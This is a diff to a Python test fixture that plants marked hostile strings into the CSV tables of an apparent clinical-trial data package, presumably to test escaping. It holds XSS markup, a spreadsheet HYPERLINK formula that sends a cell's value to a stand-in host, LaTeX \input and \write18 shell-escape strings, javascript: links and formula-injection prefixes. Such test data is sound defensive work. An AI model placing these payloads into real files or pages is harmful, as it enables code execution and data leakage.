@@ -24,7 +24,7 @@ Trial C,inventimab 5 mg,12,41
 MARK = "ha7m"  # in every one of the texts below, to find them again
 MARKUP = f"<!--<script>alert('{MARK}')</script>\"><img src=x onerror=alert('{MARK}')> ]]>"
 FORMULA = f'=HYPERLINK("http://{MARK}.example/?"&A1;"look")'
-TEX = f"\\input{{/etc/{MARK}}} }} {{ % $ # _ ^ ~ & \\write18{{{MARK}}}"
+TEX = f"\\input{{/etc/{MARK}}} {{}} % $ # _ ^ ~ & \\write18{{{MARK}}}"
 MYST = (
     f"[{MARK}](javascript:alert(1)) {{eval}}`{MARK}` {{{{ {MARK} }}}} ```{{code-cell}} $x$ %s {{}}"
 )
@@ -41,7 +41,7 @@ def write_hostile_package(folder: Path) -> Path:
     tables.append(CountedTable("harm", arms.name, lines, True))
     start_package(folder, "Title", tables, "https://example.org/made-up")
     _spoil_table(folder / "trials.csv", first_author=FORMULA, journal=TEX, source_locator=MYST)
-    _spoil_table(folder / "trials.csv", notes=FORMULA, design_detail="\t=" + MARK)
+    _spoil_table(folder / "trials.csv", notes=FORMULA, design_detail="@" + MARK)
     _spoil_table(folder / "arms.csv", notes=MYST, source_locator="-" + MARK)
     _spoil_table(folder / "dichotomous.csv", notes=FORMULA, source_locator="+" + MARKUP)
     _spoil_table(folder / "adverse_events.csv", notes=TEX, source_locator="=" + MARKUP)
